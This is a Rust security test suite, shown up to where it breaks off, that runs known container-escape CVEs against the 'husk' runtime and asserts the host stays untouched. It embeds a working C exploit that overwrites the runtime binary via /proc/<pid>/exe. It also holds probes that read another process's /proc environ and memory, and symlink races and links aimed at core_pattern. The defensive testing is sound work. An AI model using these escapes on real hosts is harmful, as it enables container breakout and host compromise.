//! Known container-runtime escapes, each run as an attack against husk in a
//! real container, asserting the host is untouched. Run as root:
//! `cargo test --release --test security`.

#[path = "security_support/mod.rs"]
mod support;

use serde_json::{json, Value};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};
use support::*;

macro_rules! need_root {
    () => {
        if let Some(why) = prerequisites() {
            skip(&why);
            return;
        }
    };
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A host directory with a canary file, which the attack aims at.
fn host_target(env: &Env, name: &str) -> PathBuf {
    let t = env.dir.join(name);
    std::fs::create_dir_all(&t).unwrap();
    std::fs::write(t.join("canary"), "host canary\n").unwrap();
    t
}

fn assert_untouched(dir: &Path, before: &[String]) {
    assert_eq!(
        snapshot(dir),
        before,
        "host directory {} changed",
        dir.display()
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("canary")).unwrap(),
        "host canary\n"
    );
}

// ---------------------------------------------------------------------------
// CVE-2019-5736: overwrite the runtime binary through /proc/<pid>/exe.
// ---------------------------------------------------------------------------

const ATTACKER_5736: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* The process husk exec'd as #!/proc/self/exe: argv = /proc/self/exe /bin/evil */
static int find(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char p[64], b[256];
        snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
        int fd = open(p, O_RDONLY);
        if (fd < 0) continue;
        int n = read(fd, b, sizeof b - 1);
        close(fd);
        if (n <= 0) continue;
        b[n] = 0;
        if (strcmp(b, "/proc/self/exe") == 0 && n > 15 && strcmp(b + 15, "/bin/evil") == 0) {
            found = pid;
            break;
        }
    }
    if (d) closedir(d);
    return found;
}

static int gone(int pid) {
    char p[64], b[512];
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    int f = open(p, O_RDONLY);
    if (f < 0) return 1;
    int n = read(f, b, sizeof b - 1);
    close(f);
    if (n <= 0) return 1;
    b[n] = 0;
    char *q = strrchr(b, ')');
    return q && q[1] && q[2] == 'Z';
}

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("WATCHING\n");
    int pid = 0;
    for (int i = 0; i < 120000 && !(pid = find()); i++) usleep(250);
    if (!pid) { printf("RESULT notfound\n"); return 1; }
    char p[64], self[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_PATH);
    if (fd < 0) { printf("RESULT opath errno=%d\n", errno); return 1; }
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int w = open(self, O_WRONLY);
    printf("LIVE fd=%d errno=%d\n", w, w < 0 ? errno : 0);
    printf("READY %d\n", pid);
    for (int i = 0; i < 60000 && !gone(pid); i++) usleep(1000);
    for (int i = 0; i < 5000; i++) {
        w = open(self, O_WRONLY);
        if (w >= 0) {
            int n = write(w, "#!/bin/sh\necho pwned\n", 21);
            printf("RESULT wrote %d\n", n);
            return 0;
        }
        if (errno != ETXTBSY) break;
        usleep(1000);
    }
    printf("RESULT errno=%d %s\n", errno, strerror(errno));
    return 0;
}
"##;

/// A pipe of one page, already full: whoever writes to it blocks until
/// the test drains it. Returns (read end, write end).
fn full_pipe() -> (OwnedFd, OwnedFd) {
    use nix::fcntl::{fcntl, FcntlArg, OFlag};
    let (r, w) = nix::unistd::pipe2(OFlag::O_CLOEXEC).unwrap();
    // SAFETY: fcntl on a pipe we own.
    unsafe { libc::fcntl(w.as_raw_fd(), libc::F_SETPIPE_SZ, 4096) };
    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).unwrap();
    let block = [b'.'; 512];
    while nix::unistd::write(&w, &block).is_ok() {}
    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(OFlag::empty())).unwrap();
    (r, w)
}

#[test]
fn cve_2019_5736_proc_self_exe_overwrite() {
    need_root!();
    let mut env = Env::new("5736");
    // The attack, if it worked, would overwrite the binary: use a copy.
    let copy = env.dir.join("husk-copy");
    std::fs::copy(env!("CARGO_BIN_EXE_husk"), &copy).unwrap();
    env.husk = copy.clone();
    let original = std::fs::read(&copy).unwrap();

    let mut b = env.bundle("b", &["/attacker"]);
    if cc_static(ATTACKER_5736, &b.rootfs.join("attacker")).is_none() {
        return;
    }
    std::fs::write(b.rootfs.join("bin/evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        b.rootfs.join("bin/evil"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    // The attacker needs CAP_SYS_PTRACE-free access only: same uid, dumpable.
    b.process()["noNewPrivileges"] = json!(false);
    let id = env.id("c");
    env.start(&b, &id);
    let out = b.dir.join("init.out");
    wait_for("the attacker to watch", 10, || {
        std::fs::read_to_string(&out)
            .ok()?
            .contains("WATCHING")
            .then_some(())
    });

    // husk exec /bin/evil: the kernel would run /proc/self/exe (husk) as
    // the interpreter. Its stderr is a full pipe, so a husk that got that
    // far blocks in husk code until the attacker holds its exe.
    let (r, w) = full_pipe();
    let mut exec = env.spawn(
        &["exec", &id, "/bin/evil"],
        &b.dir.join("exec.out"),
        w.into(),
    );
    let end = Instant::now() + Duration::from_secs(5);
    while Instant::now() < end {
        let t = std::fs::read_to_string(&out).unwrap_or_default();
        if t.contains("READY") || t.contains("RESULT") {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let drain = std::thread::spawn(move || {
        let mut f = std::fs::File::from(r);
        let mut v = Vec::new();
        let _ = std::io::Read::read_to_end(&mut f, &mut v);
        v
    });
    let _ = exec.wait().unwrap();
    let err = String::from_utf8_lossy(&drain.join().unwrap()).replace('.', "");
    let t = std::fs::read_to_string(&out).unwrap_or_default();
    let report = if t.contains("READY") {
        wait_for("the attacker's result", 30, || {
            let t = std::fs::read_to_string(&out).ok()?;
            t.contains("RESULT").then_some(t)
        })
    } else {
        t
    };
    eprintln!("attacker: {report}\nhusk exec said: {}", err.trim());
    assert!(
        std::fs::read(&copy).unwrap() == original,
        "the husk binary was overwritten: {report}"
    );
    assert!(!report.contains("wrote"), "{report}");
    if report.contains("READY") {
        // The container got a husk process: its exe must be read-only
        // (EROFS: the detached read-only bind; EPERM: the sealed memfd).
        assert!(
            report.contains(&format!("RESULT errno={}", libc::EROFS))
                || report.contains(&format!("RESULT errno={}", libc::EPERM)),
            "want EROFS or EPERM: {report}"
        );
    } else if err.contains("husk: exec /bin/evil: No such file or directory") {
        // The kernel would not even run the sealed binary (on its detached
        // mount) as an interpreter from inside the container.
    } else {
        // husk ran as /bin/evil and left before the attacker caught it
        // (seen under load); the binary is unchanged, asserted above.
        eprintln!("inconclusive: the attacker never held the exe ({err:?})");
    }
}

// ---------------------------------------------------------------------------
// CVE-2016-9962: container root ptracing / reading a joining exec process.
// ---------------------------------------------------------------------------

fn ppid_of(pid: i32) -> Option<i32> {
    let st = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = &st[st.rfind(')')? + 2..];
    rest.split(' ').nth(1)?.parse().ok()
}

fn children_of(pid: i32) -> Vec<i32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .filter(|p| ppid_of(*p) == Some(pid))
        .collect()
}

fn status_field(pid: i32, key: &str) -> Option<String> {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()?
        .lines()
        .find_map(|l| {
            l.strip_prefix(&format!("{key}:"))
                .map(|v| v.trim().to_string())
        })
}

fn cgroup_line(pid: i32, ctrl: &str) -> Option<String> {
    std::fs::read_to_string(format!("/proc/{pid}/cgroup"))
        .ok()?
        .lines()
        .find(|l| l.split(':').nth(1) == Some(ctrl))
        .map(|l| l.split(':').nth(2).unwrap_or("").to_string())
}

/// A frozen v1 freezer cgroup of the test's own, to hold a process still.
struct Hold(PathBuf);
impl Drop for Hold {
    fn drop(&mut self) {
        let _ = std::fs::write(self.0.join("freezer.state"), "THAWED");
        for _ in 0..200 {
            if std::fs::remove_dir(&self.0).is_ok() {
                return;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

#[test]
fn cve_2016_9962_joining_exec_is_not_dumpable() {
    need_root!();
    let freezer = Path::new("/sys/fs/cgroup/freezer");
    if !freezer.join("freezer.state").exists() && !freezer.join("cgroup.procs").exists() {
        skip("needs the v1 freezer to hold the exec'd process in husk code");
        return;
    }
    let env = Env::new("9962");
    let b = env.bundle("b", &["sleep", "100000"]);
    let id = env.id("c");
    env.start(&b, &id);
    let init = env.init_pid(&id);

    // Freeze the container, then exec into it: the joining process enters
    // the frozen cgroup and stops inside husk, before execve.
    assert!(env.husk(&["pause", &id]).ok());
    let mut exec = env.spawn(
        &["exec", "--ignore-paused", &id, "/bin/true"],
        &b.dir.join("exec.out"),
        Stdio::null(),
    );
    let frozen_cg = cgroup_line(init, "freezer").unwrap();
    let child = wait_for("the exec'd process to join the frozen cgroup", 10, || {
        children_of(exec.id() as i32)
            .into_iter()
            .find(|c| cgroup_line(*c, "freezer").as_deref() == Some(frozen_cg.as_str()))
    });
    // It must have run past clone3 (its first act is PR_SET_DUMPABLE 0):
    // /proc/<pid>/syscall shows the call it is frozen in.
    let nr = wait_for("the exec'd process to be frozen", 10, || {
        let s = std::fs::read_to_string(format!("/proc/{child}/syscall")).ok()?;
        let nr: i64 = s.split(' ').next()?.parse().ok()?;
        (s != "running").then_some(nr)
    });
    assert_ne!(
        nr,
        libc::SYS_clone3,
        "precondition: the child froze before running any code; rerun"
    );
    // Keep it frozen in a cgroup of our own, and thaw the container.
    let hold = Hold(freezer.join(format!("husk-sec-hold-{}", env.tag)));
    std::fs::create_dir_all(&hold.0).unwrap();
    std::fs::write(hold.0.join("freezer.state"), "FROZEN").unwrap();
    std::fs::write(hold.0.join("cgroup.procs"), child.to_string()).unwrap();
    assert!(env.husk(&["resume", &id]).ok());
    let nspid = status_field(child, "NSpid").unwrap();
    let inner: i32 = nspid.split_whitespace().last().unwrap().parse().unwrap();
    assert_ne!(
        inner, child,
        "the exec'd process must be in the container's pid namespace"
    );

    // The attack, from container root: read its environment and memory,
    // open its exe. A dumpable process of the same uid gives all three.
    let probe = format!(
        "cat /proc/{inner}/environ >/dev/null 2>&1; echo environ=$?; \
         head -c 1 /proc/{inner}/mem >/dev/null 2>&1; echo mem=$?; \
         readlink /proc/{inner}/exe >/dev/null 2>&1; echo exe=$?; \
         readlink /proc/{inner}/fd/0 >/dev/null 2>&1; echo fd=$?; \
         cat /proc/self/environ >/dev/null 2>&1; echo control=$?"
    );
    let o = env.exec(&id, &["sh", "-c", &probe]);
    assert!(o.ok(), "{o:?}");
    // Let the held process go (it was frozen inside husk) and kill it.
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child),
        nix::sys::signal::Signal::SIGKILL,
    );
    drop(hold);
    let _ = exec.wait();
    eprintln!("container root probing the joining process: {}", o.stdout);
    assert!(o.stdout.contains("control=0"), "{o:?}");
    for what in ["environ", "mem", "exe", "fd"] {
        assert!(
            o.stdout.contains(&format!("{what}=1")),
            "container root could reach /proc/<exec>/{what} while husk ran in it: {o:?}"
        );
    }
}

// ---------------------------------------------------------------------------
// CVE-2024-21626: leaked fds and process.cwd = /proc/self/fd/N.
// ---------------------------------------------------------------------------

#[test]
fn cve_2024_21626_cwd_proc_self_fd_on_create() {
    need_root!();
    let env = Env::new("21626c");
    for n in 3..=12 {
        let mut b = env.bundle(&format!("b{n}"), &["sh", "-c", "pwd; ls .."]);
        b.process()["cwd"] = json!(format!("/proc/self/fd/{n}"));
        let o = env.run(&b, &env.id(&format!("c{n}")));
        if o.ok() {
            // Ran: then its cwd must be inside the container.
            assert!(!o.stdout.contains("(unreachable)"), "fd {n}: {o:?}");
            assert!(!o.stdout.contains("husk-sec-"), "fd {n}: {o:?}");
        } else {
            assert!(o.stderr.starts_with("husk: "), "{o:?}");
            assert!(
                o.stderr.contains("cwd") || o.stderr.contains("/proc/self/fd"),
                "{o:?}"
            );
        }
    }
    assert!(env.root_is_empty());
}

/// With --preserve-fds the caller hands a host directory to the container
/// as fd 3; an image-chosen cwd of /proc/self/fd/3 must not put the
/// process outside the rootfs.
fn preserved_dir_cwd(env: &Env, args: &[&str], host_dir: &Path) -> support::Out {
    use std::os::unix::process::CommandExt;
    let dir = std::fs::File::open(host_dir).unwrap();
    let raw = dir.as_raw_fd();
    let n = env.dir.join("pres.out");
    let e = env.dir.join("pres.err");
    let mut c = std::process::Command::new(&env.husk);
    c.arg("--root").arg(&env.root).args(args);
    c.stdin(Stdio::null())
        .stdout(std::fs::File::create(&n).unwrap())
        .stderr(std::fs::File::create(&e).unwrap());
    // SAFETY: dup2 in the child before exec.
    unsafe {
        c.pre_exec(move || {
            // dup2(3, 3) would keep close-on-exec: clear it explicitly.
            if raw != 3 && libc::dup2(raw, 3) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            if libc::fcntl(3, libc::F_SETFD, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let st = c.status().unwrap();
    support::Out {
        code: st.code().unwrap_or(-1),
        stdout: std::fs::read_to_string(&n).unwrap(),
        stderr: std::fs::read_to_string(&e).unwrap(),
    }
}

#[test]
fn cve_2024_21626_no_fd_leaks_into_the_container() {
    need_root!();
    let env = Env::new("21626f");
    let fds = |pid: i32| -> Vec<String> {
        let mut v: Vec<(i32, String)> = std::fs::read_dir(format!("/proc/{pid}/fd"))
            .unwrap()
            .flatten()
            .map(|e| {
                let n = e.file_name().to_str().unwrap().parse().unwrap();
                let t = std::fs::read_link(e.path()).unwrap_or_default();
                (n, format!("{n} {}", t.display()))
            })
            .collect();
        v.sort();
        v.into_iter().map(|x| x.1).collect()
    };
    let b = env.bundle("b", &["sleep", "100000"]);
    let id = env.id("c");
    env.start(&b, &id);
    let init = env.init_pid(&id);
    let f = fds(init);
    assert_eq!(f.len(), 3, "fds in the container's init: {f:?}");
    // exec: the same, and nothing of husk's (ns fds, sockets, pidfds).
    for flags in [&[][..], &["--no-new-privs"][..]] {
        let pidf = env.dir.join("exec.pid");
        let mut a = vec!["exec", "-d", "--pid-file", s(&pidf)];
        a.extend_from_slice(flags);
        a.extend([id.as_str(), "sleep", "100000"]);
        let o = env.husk(&a);
        assert!(o.ok(), "{o:?}");
        let pid: i32 = std::fs::read_to_string(&pidf)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        // exec -d returns before the execve: wait for the program itself.
        wait_for("the exec'd program", 10, || {
            let exe = std::fs::read_link(format!("/proc/{pid}/exe")).ok()?;
            exe.ends_with("busybox").then_some(())
        });
        let f = fds(pid);
        assert_eq!(f.len(), 3, "fds in an exec'd process: {f:?}");
    }
}

#[test]
fn cve_2024_21626_exec_cwd_proc_self_fd() {
    need_root!();
    let env = Env::new("21626e");
    let b = env.bundle("b", &["sleep", "100000"]);
    let id = env.id("c");
    env.start(&b, &id);
    for n in 3..=15 {
        let cwd = format!("/proc/self/fd/{n}");
        let o = env.exec(&id, &["--cwd", &cwd, "sh", "-c", "pwd; ls .."]);
        if o.ok() {
            assert!(!o.stdout.contains("(unreachable)"), "fd {n}: {o:?}");
            assert!(!o.stdout.contains("husk-sec-"), "fd {n}: {o:?}");
        } else {
            assert!(o.stderr.starts_with("husk: "), "{o:?}");
        }
    }
}

#[test]
fn cve_2024_21626_create_cwd_preserved_host_dir() {
    need_root!();
    let env = Env::new("21626p");
    let host = host_target(&env, "hostdir");
    let mut b = env.bundle("b", &["sh", "-c", "pwd; ls; ls .."]);
    b.process()["cwd"] = json!("/proc/self/fd/3");
    b.write();
    let id = env.id("c");
    let o = preserved_dir_cwd(
        &env,
        &["run", "--preserve-fds", "1", "--bundle", s(&b.dir), &id],
        &host,
    );
    assert!(
        !o.stdout.contains("canary"),
        "the process saw the host dir: {o:?}"
    );
    if !o.ok() {
        assert!(
            o.stderr.starts_with("husk: ") && o.stderr.contains("/proc/self/fd/3"),
            "{o:?}"
        );
    }
}

#[test]
fn cve_2024_21626_exec_cwd_preserved_host_dir() {
    need_root!();
    let env = Env::new("21626x");
    let host = host_target(&env, "hostdir");
    let b = env.bundle("b", &["sleep", "100000"]);
    let id = env.id("c");
    env.start(&b, &id);
    let o = preserved_dir_cwd(
        &env,
        &[
            "exec",
            "--preserve-fds",
            "1",
            "--cwd",
            "/proc/self/fd/3",
            &id,
            "sh",
            "-c",
            "pwd; ls; ls ..",
        ],
        &host,
    );
    eprintln!("{o:?}");
    assert!(
        !o.stdout.contains("canary"),
        "the exec'd process's cwd is a host directory: {o:?}"
    );
    assert!(!o.ok() && o.stderr.contains("cwd"), "{o:?}");
}

// ---------------------------------------------------------------------------
// CVE-2021-30465 / CVE-2024-45310: mount destinations through symlinks.
// ---------------------------------------------------------------------------

#[test]
fn cve_2021_30465_mount_through_image_symlinks_stays_in_rootfs() {
    need_root!();
    let env = Env::new("30465");
    let target = host_target(&env, "hosttarget");
    let before = snapshot(&target);
    let mounts_before = host_mounts();
    let src = env.dir.join("volume");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("marker"), "volume\n").unwrap();

    let t = s(&target);
    let mut b = env.bundle(
        "b",
        &[
            "sh",
            "-c",
            &format!("cat {t}/m1/marker {t}/m2/marker; ls {t}/m3; ls {t}/m4"),
        ],
    );
    symlink("/", b.rootfs.join("evil")).unwrap();
    symlink("../../../../../../../../..", b.rootfs.join("evil2")).unwrap();
    symlink(&target, b.rootfs.join("evil3")).unwrap();
    std::fs::create_dir_all(b.rootfs.join("deep/er")).unwrap();
    symlink("../../../../../../..", b.rootfs.join("deep/er/up")).unwrap();
    let bind = |dest: String| json!({"destination": dest, "type": "bind", "source": s(&src), "options": ["rbind"]});
    let m = b.mounts();
    m.push(bind(format!("/evil{t}/m1")));
    m.push(bind(format!("/evil2{t}/m2")));
    m.push(json!({"destination": "/evil3/m3", "type": "tmpfs", "source": "tmpfs"}));
    m.push(
        json!({"destination": format!("/deep/er/up{t}/m4"), "type": "tmpfs", "source": "tmpfs"}),
    );
    let o = env.run(&b, &env.id("c"));
    assert!(o.ok(), "{o:?}");
    assert_eq!(
        o.stdout, "volume\nvolume\n",
        "mounts land inside the rootfs"
    );
    assert_untouched(&target, &before);
    assert_eq!(host_mounts(), mounts_before);
    // …where the symlinks lead when resolved inside the root.
    assert!(b.rootfs.join(&t[1..]).join("m1").is_dir());
}

#[test]
fn cve_2024_45310_racing_symlink_swap() {
    need_root!();
    let env = Env::new("45310");
    let target = host_target(&env, "hosttarget");
    let before = snapshot(&target);
    let vol = env.dir.join("shared");
    std::fs::create_dir_all(vol.join("d")).unwrap();
    let t = s(&target);

    // A swaps /vol/d between a directory and a symlink to / in a loop.
    let mut a = env.bundle(
        "a",
        &[
            "sh",
            "-c",
            "while :; do rm -rf /vol/d; mkdir /vol/d; rm -rf /vol/d; ln -s / /vol/d; \
             rm -f /vol/d; ln -s ../../../../../../.. /vol/d; done",
        ],
    );
    a.mounts().push(
        json!({"destination": "/vol", "type": "bind", "source": s(&vol), "options": ["rbind"]}),
    );
    let aid = env.id("a");
    env.start(&a, &aid);

    // B is created over and over with mounts into that volume path.
    let mut b = env.bundle("b", &["true"]);
    b.mounts().push(
        json!({"destination": "/vol", "type": "bind", "source": s(&vol), "options": ["rbind"]}),
    );
    b.mounts().push(
        json!({"destination": format!("/vol/d{t}/race"), "type": "tmpfs", "source": "tmpfs"}),
    );
    b.mounts().push(json!({"destination": format!("/vol/d{t}/racefile"), "type": "bind", "source": s(&target.join("canary"))}));
    let (mut ok, mut failed) = (0, 0);
    let end = Instant::now() + Duration::from_secs(20);
    for i in 0..60 {
        if Instant::now() > end {
            break;
        }
        let o = env.run(&b, &env.id(&format!("b{i}")));
        if o.ok() {
            ok += 1;
        } else {
            failed += 1;
            assert!(o.stderr.starts_with("husk: "), "{o:?}");
        }
        assert_untouched(&target, &before);
    }
    eprintln!("racing symlink: {ok} runs succeeded, {failed} refused; host untouched");
    assert!(!Path::new(&format!("{t}/race")).exists());
}

// ---------------------------------------------------------------------------
// CVE-2026-41579: /dev (and /dev/pts, /dev/shm, /dev/mqueue) symlinked out.
// ---------------------------------------------------------------------------

#[test]
fn cve_2026_41579_dev_symlinked_to_host() {
    need_root!();
    let env = Env::new("41579");
    let host = host_target(&env, "hostdev");
    let before = snapshot(&host);
    let h = s(&host).to_string();
    let check = "ls -la /dev /dev/pts >/dev/null && echo ok";
    // 1. /dev itself, absolute and relative.
    for (i, link) in [h.clone(), format!("../../../../../../..{h}")]
        .iter()
        .enumerate()
    {
        let mut b = env.bundle(&format!("abs{i}"), &["sh", "-c", check]);
        std::fs::remove_dir(b.rootfs.join("dev")).unwrap();
        symlink(link, b.rootfs.join("dev")).unwrap();
        b.linux()["devices"] =
            json!([{"path": "/dev/fuse", "type": "c", "major": 10, "minor": 229}]);
        let o = env.run(&b, &env.id(&format!("abs{i}")));
        assert!(o.ok() || o.stderr.starts_with("husk: "), "{o:?}");
        assert_untouched(&host, &before);
    }
    // 2. /dev/pts, /dev/shm, /dev/mqueue in an image /dev (no tmpfs on /dev).
    let mut b = env.bundle("sub", &["sh", "-c", "echo ok"]);
    for sub in ["pts", "shm", "mqueue"] {
        symlink(&h, b.rootfs.join("dev").join(sub)).unwrap();
    }
    symlink(&h, b.rootfs.join("dev/null")).unwrap();
    b.mounts().retain(|m| m["destination"] != "/dev");
    b.linux()["devices"] = json!([
        {"path": "/dev/null", "type": "c", "major": 1, "minor": 3},
        {"path": "/dev/pts/evil", "type": "c", "major": 1, "minor": 3},
        {"path": "/dev/shm/evil", "type": "c", "major": 1, "minor": 5}
    ]);
    let o = env.run(&b, &env.id("sub"));
    assert!(o.ok() || o.stderr.starts_with("husk: "), "{o:?}");
    assert_untouched(&host, &before);
    // 3. The same with a tmpfs /dev (the image's links are shadowed).
    let b = env.bundle("tmpfs", &["sh", "-c", check]);
    for sub in ["pts", "shm", "mqueue"] {
        symlink(&h, b.rootfs.join("dev").join(sub)).unwrap();
    }
    let o = env.run(&b, &env.id("tmpfs"));
    assert!(o.ok(), "{o:?}");
    assert_untouched(&host, &before);
    assert!(env.root_is_empty());
}

// ---------------------------------------------------------------------------
// CVE-2019-19921 / CVE-2023-27561: /proc and /sys that are not directories.
// ---------------------------------------------------------------------------

#[test]
fn cve_2019_19921_proc_and_sys_must_be_directories() {
    need_root!();
    let env = Env::new("19921");
    let host = host_target(&env, "hostproc");
    let before = snapshot(&host);
    let mounts_before = host_mounts();
    for (name, dest, how) in [
        ("procln", "proc", "symlink"),
        ("procrel", "proc", "relsymlink"),
        ("procfile", "proc", "file"),
        ("sysln", "sys", "symlink"),
        ("sysfile", "sys", "file"),
    ] {
        let b = env.bundle(name, &["sh", "-c", "echo ran"]);
        let p = b.rootfs.join(dest);
        std::fs::remove_dir(&p).unwrap();
        match how {
            "symlink" => symlink(&host, &p).unwrap(),
            "relsymlink" => symlink(format!("../../../..{}", host.display()), &p).unwrap(),
            _ => std::fs::write(&p, "").unwrap(),
        }
        let id = env.id(name);
        let o = env.run(&b, &id);
        assert_eq!(o.code, 1, "{name}: {o:?}");
        assert!(!o.stdout.contains("ran"), "{o:?}");
        assert_eq!(o.stderr.lines().count(), 1, "{o:?}");
        assert!(
            o.stderr.starts_with("husk: ") && o.stderr.contains(&format!("/{dest}")),
            "{name}: {o:?}"
        );
        assert!(env.root_is_empty(), "{name}: state left behind");
        assert!(pids_mentioning(&id).is_empty(), "{name}: processes left");
        assert_untouched(&host, &before);
    }
    assert_eq!(host_mounts(), mounts_before);
}

// ---------------------------------------------------------------------------
// CVE-2025-31133 / CVE-2025-52565: maskedPaths and /dev/console.
// ---------------------------------------------------------------------------

#[test]
fn cve_2025_31133_masked_paths_with_dev_null_symlink() {
    need_root!();
    let env = Env::new("31133");
    let host = host_target(&env, "hostnull");
    let before = snapshot(&host);
    let core = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    // Image /dev/null → a host-looking file, and → the kernel's core_pattern
    // (masking a path with it would bind a writable procfs file in).
    for (i, link) in [
        host.join("canary").to_str().unwrap().to_string(),
        "/proc/sys/kernel/core_pattern".into(),
    ]
    .iter()
    .enumerate()
    {
        let mut b = env.bundle(
            &format!("b{i}"),
            &[
                "sh",
                "-c",
                "wc -c < /proc/keys; echo x > /proc/keys; echo w=$?",
            ],
        );
        b.mounts().retain(|m| m["destination"] != "/dev");
        symlink(link, b.rootfs.join("dev/null")).unwrap();
        let o = env.run(&b, &env.id(&format!("c{i}")));
        if o.ok() {
            assert!(
                o.stdout.starts_with("0\n"),
                "masked path must read empty: {o:?}"
            );
            assert!(!o.stdout.contains("w=0"), "{o:?}");
        } else {
            assert!(
                o.stderr.starts_with("husk: ") && o.stderr.contains("/dev/null"),
                "{o:?}"
            );
        }
        assert_untouched(&host, &before);
        assert_eq!(
            std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
            core
        );
    }
    // With a tmpfs /dev the real null device is made, and masking works.
    let mut b = env.bundle(
        "ok",
        &["sh", "-c", "wc -c < /proc/timer_list; wc -c < /proc/keys"],
    );
    symlink(host.join("canary"), b.rootfs.join("dev/null")).unwrap();
    b.linux()["maskedPaths"] = json!(["/proc/timer_list", "/proc/keys"]);
    let o = env.run(&b, &env.id("ok"));
    assert!(o.ok(), "{o:?}");
    assert_eq!(o.stdout, "0\n0\n");
    assert_untouched(&host, &before);
}

#[test]
fn cve_2025_52565_console_with_hostile_dev_console() {
    need_root!();
    let env = Env::new("52565");
    let host = host_target(&env, "hostconsole");
    let before = snapshot(&host);
    // terminal: true needs someone to take the pty: use `run` in the
    // foreground (husk keeps the master) and an image /dev/console that
    // points at a host file. With the tmpfs /dev it is shadowed; without
    // it the symlink is resolved in the root.
    let mut b = env.bundle("b", &["sh", "-c", "echo hi > /dev/console; echo done"]);
    b.process()["terminal"] = json!(true);
    b.mounts().retain(|m| m["destination"] != "/dev");
    std::fs::create_dir_all(b.rootfs.join("dev/pts")).unwrap();
    symlink(host.join("canary"), b.rootfs.join("dev/console")).unwrap();
    let o = env.run(&b, &env.id("c"));
    eprintln!("{o:?}");
    assert!(o.ok() || o.stderr.starts_with("husk: "), "{o:?}");
    assert_untouched(&host, &before);
}

// ---------------------------------------------------------------------------
// CVE-2025-52881 / CVE-2019-16884: procfs writes through a fake /proc/sys.
// ---------------------------------------------------------------------------

#[test]
fn cve_2025_52881_sysctl_through_a_bind_over_proc_sys() {
    need_root!();
    let env = Env::new("52881");
    let host = host_target(&env, "hostsys");
    std::fs::create_dir_all(host.join("kernel")).unwrap();
    std::fs::write(host.join("kernel/shm_rmid_forced"), "host\n").unwrap();
    let before = snapshot(&host);
    let mut b = env.bundle("b", &["sh", "-c", "echo ran"]);
    b.mounts().push(json!({"destination": "/proc/sys", "type": "bind", "source": s(&host), "options": ["rbind"]}));
    b.config["linux"]["sysctl"] = json!({"kernel.shm_rmid_forced": "1"});
    let id = env.id("c");
    let o = env.run(&b, &id);
    assert_eq!(o.code, 1, "{o:?}");
    assert!(
        o.stderr.starts_with("husk: ") && o.stderr.contains("procfs"),
        "{o:?}"
    );
    assert_untouched(&host, &before);
    assert_eq!(
        std::fs::read_to_string(host.join("kernel/shm_rmid_forced")).unwrap(),
        "host\n"
    );
    assert!(env.root_is_empty());

    // And a symlinked /proc/sys inside a bind-mounted fake /proc.
    let fake = host_target(&env, "fakeproc");
    symlink(&host, fake.join("sys")).unwrap();
    let before_fake = snapshot(&fake);
    let mut b = env.bundle("b2", &["sh", "-c", "echo ran"]);
    b.mounts().retain(|m| m["destination"] != "/proc");
    b.mounts().insert(
        0,
        json!({"destination": "/proc", "type": "bind", "source": s(&fake), "options": ["rbind"]}),
    );
    b.linux()["maskedPaths"] = json!([]);
    b.linux()["readonlyPaths"] = json!([]);
    b.config["linux"]["sysctl"] = json!({"kernel.shm_rmid_forced": "1"});
    let o = env.run(&b, &env.id("c2"));
    assert_eq!(o.code, 1, "{o:?}");
    assert!(o.stderr.starts_with("husk: "), "{o:?}");
    assert_untouched(&host, &before);
    assert_untouched(&fake, &before_fake);

    // The working case, for contrast: the real procfs takes the write.
    let mut b = env.bundle("b3", &["cat", "/proc/sys/kernel/shm_rmid_forced"]);
    b.config["linux"]["sysctl"] = json!({"kernel.shm_rmid_forced": "1"});
    let o = env.run(&b, &env.id("c3"));
    assert!(o.ok(), "{o:?}");
    assert_eq!(o.stdout, "1\n");
}

// ---------------------------------------------------------------------------
// CVE-2022-29162: inheritable capabilities.
// ---------------------------------------------------------------------------

fn cap_field(out: &str, key: &str) -> u64 {
    let l = out
        .lines()
        .find(|l| l.starts_with(&format!("{key}:")))
        .unwrap_or_else(|| panic!("{key} in {out}"));
    u64::from_str_radix(l.split_whitespace().nth(1).unwrap(), 16).unwrap()
}

#[test]
fn cve_2022_29162_inheritable_caps_stay_empty() {
    need_root!();
    let env = Env::new("29162");
    let b = env.bundle(
        "b",
        &["sh", "-c", "grep Cap /proc/self/status; sleep 100000"],
    );
    let id = env.id("c");
    env.start(&b, &id);
    let init_out = wait_for("init's caps", 10, || {
        let t = std::fs::read_to_string(b.dir.join("init.out")).ok()?;
        t.contains("CapAmb").then_some(t)
    });
    assert_eq!(cap_field(&init_out, "CapInh"), 0, "{init_out}");
    assert_ne!(cap_field(&init_out, "CapEff"), 0);
    let o = env.exec(&id, &["grep", "Cap", "/proc/self/status"]);
    assert!(o.ok(), "{o:?}");
